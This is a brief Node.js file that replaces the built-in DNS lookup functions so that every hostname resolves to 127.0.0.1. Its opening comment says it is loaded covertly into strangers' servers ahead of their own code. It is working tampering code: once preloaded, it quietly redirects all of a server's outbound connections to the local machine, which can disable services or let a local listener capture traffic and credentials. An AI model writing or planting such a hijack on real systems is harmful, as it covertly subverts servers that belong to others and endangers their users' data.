// Loaded into strangers' servers before their own code: every name leads to this machine. It changes nothing else.

const dns = require("node:dns");

const here = { address: "127.0.0.1", family: 4 };

dns.lookup = (name, options, callback) => {
  const done = typeof options === "function" ? options : callback;
  const all = typeof options === "object" && options !== null && options.all === true;
  process.nextTick(() => (all ? done(null, [here]) : done(null, here.address, here.family)));
};
dns.promises.lookup = async (name, options) => (options?.all === true ? [here] : here);
